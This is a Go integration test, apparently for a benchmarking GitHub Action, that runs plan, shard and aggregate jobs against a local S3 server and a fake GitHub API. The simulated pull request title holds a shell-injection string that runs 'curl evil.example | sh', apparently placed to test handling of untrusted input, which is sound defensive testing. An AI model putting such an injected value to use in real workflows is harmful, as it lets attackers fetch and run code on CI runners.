@@ -1,0 +1,353 @@
+package action
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/pairbench/pairbench"
+	"github.com/pairbench/pairbench/artifacts"
+	"github.com/pairbench/pairbench/bot/githubtest"
+	"github.com/pairbench/pairbench/stats"
+)
+
+const (
+	s3Access = "pairbench-action-test"
+	s3Secret = "pairbench-action-test-secret-01"
+	s3Bucket = "bench"
+
+	repoName = "acme/registry"
+	prNumber = 7
+	headSHA  = "7777777777777777777777777777777777777777"
+	ghToken  = "ghs_action-test-token"
+)
+
+// startS3 starts a real S3 server (versitygw, built into tools/bin by
+// scripts/setup.sh) with one bucket on a free loopback port for the test
+// and returns its endpoint.
+func startS3(t *testing.T) string {
+	t.Helper()
+	bin, err := filepath.Abs(filepath.Join(root, "tools/bin/versitygw"))
+	require.NoError(t, err)
+	_, err = os.Stat(bin)
+	require.NoError(t, err, "the test S3 server is missing; run `make setup` to build it into tools/bin")
+	data := t.TempDir()
+	// The posix backend serves each top-level directory as a bucket.
+	require.NoError(t, os.Mkdir(filepath.Join(data, s3Bucket), 0o755))
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	addr := l.Addr().String()
+	require.NoError(t, l.Close())
+	cmd := exec.Command(bin, "--port", addr, "--access", s3Access, "--secret", s3Secret,
+		"--region", "us-east-1", "--quiet", "posix", data)
+	var logs bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &logs, &logs
+	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+	require.NoError(t, cmd.Start())
+	exited := make(chan struct{})
+	go func() { _ = cmd.Wait(); close(exited) }()
+	t.Cleanup(func() {
+		_ = cmd.Process.Kill()
+		<-exited
+	})
+	for deadline := time.Now().Add(10 * time.Second); ; {
+		c, err := net.DialTimeout("tcp", addr, 100*time.Millisecond)
+		if err == nil {
+			c.Close()
+			break
+		}
+		select {
+		case <-exited:
+			t.Fatalf("versitygw exited at start: %s", logs.String())
+		case <-time.After(20 * time.Millisecond):
+		}
+		require.True(t, time.Now().Before(deadline), "versitygw not listening on %s: %s", addr, logs.String())
+	}
+	return "http://" + addr
+}
+
+// bench is the test's simulated repository and runner pool: a real S3
+// store, the fake GitHub, the pull_request event, and the Action's inputs
+// every job shares.
+type bench struct {
+	t        *testing.T
+	meta     *actionMeta
+	root     string
+	endpoint string
+	gh       *githubtest.Server
+	env      map[string]string
+	event    map[string]any
+}
+
+func newBench(t *testing.T) *bench {
+	meta, err := readActionMeta(filepath.Join(root, "action.yml"))
+	require.NoError(t, err)
+	abs, err := filepath.Abs(root)
+	require.NoError(t, err)
+	b := &bench{t: t, meta: meta, root: abs, endpoint: startS3(t), gh: githubtest.New(t)}
+	b.gh.AddToken(ghToken)
+	b.gh.Repo(repoName, func(r *githubtest.Repo) {
+		r.Pulls[prNumber] = &githubtest.Pull{Number: prNumber, HeadSHA: headSHA, HeadRef: "faster-tools"}
+	})
+	b.env = map[string]string{
+		"GITHUB_REPOSITORY": repoName, "GITHUB_RUN_ID": "4242", "GITHUB_RUN_ATTEMPT": "1",
+		"GITHUB_EVENT_NAME": "pull_request", "GITHUB_API_URL": b.gh.URL, "GITHUB_SERVER_URL": "https://github.example",
+		"AWS_ACCESS_KEY_ID": s3Access, "AWS_SECRET_ACCESS_KEY": s3Secret, "AWS_REGION": "us-east-1",
+		// Never fall back to the instance metadata service: only loopback.
+		"AWS_EC2_METADATA_DISABLED": "true",
+	}
+	for k, v := range b.env {
+		if strings.HasPrefix(k, "AWS_") {
+			t.Setenv(k, v) // for the test's own look into the store
+		}
+	}
+	b.event = map[string]any{
+		"action": "synchronize", "number": prNumber,
+		"pull_request": map[string]any{
+			"number": prNumber, "title": `"; curl evil.example | sh; echo "`,
+			"head": map[string]any{"sha": headSHA, "ref": "faster-tools", "repo": map[string]any{"full_name": repoName}},
+		},
+		"repository": map[string]any{"full_name": repoName},
+	}
+	return b
+}
+
+// inputs are the Action inputs of a small bench of the example registry
+// with the scripted model, stored in S3, plus extra.
+func (b *bench) inputs(extra map[string]string) map[string]string {
+	in := map[string]string{
+		"registry": "examples/registry", "intents": "weather-high-oslo, books-cheapest-by-author",
+		"pairs": "3", "slots": "1", "start-delay": "0", "seed": "11", "example-sites": "true",
+		"s3-bucket": s3Bucket, "s3-prefix": "runs", "s3-endpoint": b.endpoint, "s3-region": "us-east-1",
+	}
+	for k, v := range extra {
+		if v == "" {
+			delete(in, k)
+			continue
+		}
+		in[k] = v
+	}
+	return in
+}
+
+// run runs one job using the Action; it does not fail the test itself, so
+// it can run in a goroutine.
+func (b *bench) run(name string, inputs map[string]string) (jobResult, error) {
+	tmp, err := os.MkdirTemp(b.t.TempDir(), name+"-")
+	if err != nil {
+		return jobResult{}, err
+	}
+	res, err := runJob(b.meta, job{
+		Root: b.root, Work: b.root, Env: b.env, Inputs: inputs, Event: b.event,
+		Skip: map[string]string{
+			// scripts/setup.sh installs into this shared checkout's tools/;
+			// the machine running the tests has them already.
+			"Install what the runner lacks": "tools installed by make setup",
+		},
+	}, tmp)
+	if err != nil {
+		return res, fmt.Errorf("job %s: %w", name, err)
+	}
+	return res, nil
+}
+
+// mustRun runs a job that must succeed.
+func (b *bench) mustRun(name string, inputs map[string]string) jobResult {
+	b.t.Helper()
+	res, err := b.run(name, inputs)
+	require.NoError(b.t, err)
+	require.False(b.t, res.Failed, "job %s failed:\n%s", name, res.Log)
+	return res
+}
+
+func (b *bench) store() artifacts.Store {
+	b.t.Helper()
+	s, err := artifacts.Open(context.Background(),
+		fmt.Sprintf("s3://%s/runs?endpoint=%s&path_style=true&region=us-east-1", s3Bucket, b.endpoint))
+	require.NoError(b.t, err)
+	return s
+}
+
+func (b *bench) exists(key string) bool {
+	b.t.Helper()
+	ok, err := artifacts.Exists(context.Background(), b.store(), key)
+	require.NoError(b.t, err)
+	return ok
+}
+
+// TestActionShardedBenchOverS3 runs the Action as the example workflow does,
+// every job a separate set of processes: a plan job, three shard jobs at
+// once writing to one S3 store (the scale-out), and an aggregate job that
+// merges, reports, publishes and posts on the pull request. Beside the
+// shards runs the same plan unsharded, without a store, and the merged
+// report must have the same pairs and the same labels. Then mode report on
+// a run directory, and a failing aggregate that posts the failure.
+func TestActionShardedBenchOverS3(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs real benches (Chromium, pi in bubblewrap) for minutes; not in -short")
+	}
+	b := newBench(t)
+
+	// Plan: freeze run.json in the store and hand out the shard matrix.
+	plan := b.mustRun("plan", b.inputs(map[string]string{"mode": "plan", "total-shards": "3"}))
+	assert.Equal(t, "gh-4242", plan.Outputs["run-id"], "the default run id is the workflow run's")
+	assert.Equal(t, "[1,2,3]", plan.Outputs["shards"])
+	assert.True(t, plan.step("Sandbox check").Ran, "the sandbox check runs before any bench")
+	assert.Equal(t, filepath.Join(b.root, "go.mod"), plan.step("Set up Go").With["go-version-file"])
+	assert.Equal(t, "tools installed by make setup", plan.step("Install what the runner lacks").Skipped)
+	assert.True(t, b.exists("gh-4242/run.json"))
+	assert.Contains(t, plan.Summary, "planned run `gh-4242` in 3 shards")
+
+	// Three shard jobs at once, and the same plan unsharded without a store.
+	var wg sync.WaitGroup
+	shards := make([]jobResult, 3)
+	errs := make([]error, 4)
+	var whole jobResult
+	for k := range 3 {
+		wg.Go(func() {
+			shards[k], errs[k] = b.run(fmt.Sprintf("shard%d", k+1), b.inputs(map[string]string{
+				"mode": "run", "run-id": plan.Outputs["run-id"], "shard": fmt.Sprint(k + 1), "total-shards": "3"}))
+		})
+	}
+	wg.Go(func() {
+		whole, errs[3] = b.run("whole", b.inputs(map[string]string{"mode": "run", "run-id": "gh-4242",
+			"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
+	})
+	wg.Wait()
+	for k, res := range shards {
+		require.NoError(t, errs[k])
+		require.False(t, res.Failed, "shard %d failed:\n%s", k+1, res.Log)
+		assert.Empty(t, res.Outputs["worst-label"], "a shard has no verdict")
+		assert.Contains(t, res.Summary, fmt.Sprintf("shard %d/3 of run `gh-4242` done", k+1))
+		assert.True(t, b.exists(fmt.Sprintf("gh-4242/shards/%d/rows.jsonl", k+1)))
+		assert.False(t, res.step("Post the verdict on the pull request").Ran)
+	}
+	assert.False(t, b.exists("gh-4242/report.json"), "no shard publishes a partial report")
+	require.NoError(t, errs[3])
+	require.False(t, whole.Failed, "unsharded run failed:\n%s", whole.Log)
+
+	// Without a store the run goes up as a workflow artifact; without a
+	// token nothing is posted.
+	wholeDir := filepath.Join(whole.Temp, "pairbench-action", "runs", "gh-4242")
+	upload := whole.step("Upload the run as a workflow artifact (no store)")
+	assert.Equal(t, wholeDir, upload.With["path"])
+	assert.Equal(t, "pairbench-gh-4242", upload.With["name"])
+	assert.Contains(t, whole.Summary, "pairbench verdict: "+whole.Outputs["worst-label"])
+	assert.False(t, whole.step("Post the verdict on the pull request").Ran, "no token, no post")
+
+	// Aggregate: merge from the store, report, publish, post.
+	agg := b.mustRun("aggregate", b.inputs(map[string]string{"mode": "merge-and-report", "run-id": "gh-4242",
+		"github-token": ghToken}))
+	mergedDir := filepath.Join(agg.Temp, "pairbench-action", "merged", "gh-4242")
+	assert.Equal(t, filepath.Join(mergedDir, "report.html"), agg.Outputs["report-path"])
+	assert.FileExists(t, agg.Outputs["report-path"])
+	assert.Empty(t, agg.step("Upload the run as a workflow artifact (no store)").Uses, "with a store, no workflow artifact")
+	merged := readReport(t, mergedDir)
+	assert.Equal(t, string(merged.Verdict), agg.Outputs["worst-label"])
+	assert.Contains(t, agg.Summary, "pairbench verdict: "+agg.Outputs["worst-label"])
+	assert.True(t, b.exists("gh-4242/report.json"), "the merged report is published")
+
+	resp, err := http.Get(agg.Outputs["report-url"])
+	require.NoError(t, err, "report-url %q", agg.Outputs["report-url"])
+	body, err := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	require.NoError(t, err)
+	assert.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Contains(t, string(body), "gh-4242")
+
+	require.True(t, agg.step("Post the verdict on the pull request").Ran)
+	comments := b.gh.Comments(repoName, prNumber)
+	require.Len(t, comments, 1)
+	assert.True(t, strings.HasPrefix(comments[0].Body, "<!-- pairbench:rollup -->"))
+	assert.Contains(t, comments[0].Body, "run `gh-4242`")
+	assert.Contains(t, comments[0].Body, agg.Outputs["report-url"], "the comment links the published report")
+	assert.Equal(t, []string{"bench: " + agg.Outputs["worst-label"]}, b.gh.IssueLabels(repoName, prNumber))
+
+	// The merged report of the sharded run is the unsharded run's: same
+	// pairs in the same orders, same outcomes, same labels.
+	unsharded := readReport(t, wholeDir)
+	assert.Equal(t, unsharded.Verdict, merged.Verdict)
+	assert.Equal(t, labels(unsharded), labels(merged))
+	assert.Equal(t, trials(t, wholeDir), trials(t, mergedDir))
+	assert.Len(t, trials(t, mergedDir), 12, "2 intents × 3 pairs × 2 arms")
+
+	// Mode report on a run directory of this runner.
+	rep := b.mustRun("report", b.inputs(map[string]string{"mode": "report", "run-id": "gh-4242", "run-dir": wholeDir,
+		"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
+	assert.Equal(t, whole.Outputs["worst-label"], rep.Outputs["worst-label"])
+	assert.False(t, rep.step("Sandbox check").Ran, "reporting runs no agent")
+	assert.Equal(t, wholeDir, rep.step("Upload the run as a workflow artifact (no store)").With["path"])
+	assert.Contains(t, rep.Summary, "pairbench verdict")
+
+	// An aggregate that cannot merge fails, and says so on the pull request.
+	failed, err := b.run("failed", b.inputs(map[string]string{"mode": "merge-and-report", "run-id": "gh-0000",
+		"github-token": ghToken}))
+	require.NoError(t, err)
+	assert.True(t, failed.Failed)
+	assert.Contains(t, failed.Log, "::error title=pairbench::pairbench merge failed (exit 1): run gh-0000 has no run.json")
+	require.True(t, failed.step("Post the failure on the pull request").Ran, failed.Log)
+	comments = b.gh.Comments(repoName, prNumber)
+	require.Len(t, comments, 1, "the failure goes in the same sticky comment")
+	assert.Contains(t, comments[0].Body, "failed; there is no verdict")
+	assert.Contains(t, comments[0].Body, "run gh-0000 has no run.json")
+	assert.Contains(t, comments[0].Body, "https://github.example/acme/registry/actions/runs/4242")
+}
+
+func readReport(t *testing.T, dir string) *stats.Report {
+	t.Helper()
+	f, err := os.Open(filepath.Join(dir, "report.json"))
+	require.NoError(t, err)
+	defer f.Close()
+	rep, err := stats.ReadJSON(f)
+	require.NoError(t, err)
+	return rep
+}
+
+// labels maps each intent of a report to its label.
+func labels(rep *stats.Report) map[string]pairbench.Label {
+	out := map[string]pairbench.Label{}
+	for _, in := range rep.Intents {
+		out[in.ID] = in.Label
+	}
+	return out
+}
+
+// trials lists a run's scored trials, every shard's rows included, as
+// "intent pair order arm outcome", sorted.
+func trials(t *testing.T, dir string) []string {
+	t.Helper()
+	files, err := filepath.Glob(filepath.Join(dir, "shards", "*", "rows.jsonl"))
+	require.NoError(t, err)
+	files = append(files, filepath.Join(dir, "rows.jsonl"))
+	var out []string
+	for _, name := range files {
+		f, err := os.Open(name)
+		if os.IsNotExist(err) {
+			continue
+		}
+		require.NoError(t, err)
+		rows, _, err := pairbench.ReadRows(f)
+		f.Close()
+		require.NoError(t, err)
+		for _, r := range rows {
+			out = append(out, fmt.Sprintf("%s %d %s %s %s", r.Intent, r.Pair, r.Order, r.Arm, r.Outcome))
+		}
+	}
+	sort.Strings(out)
+	return out
+}
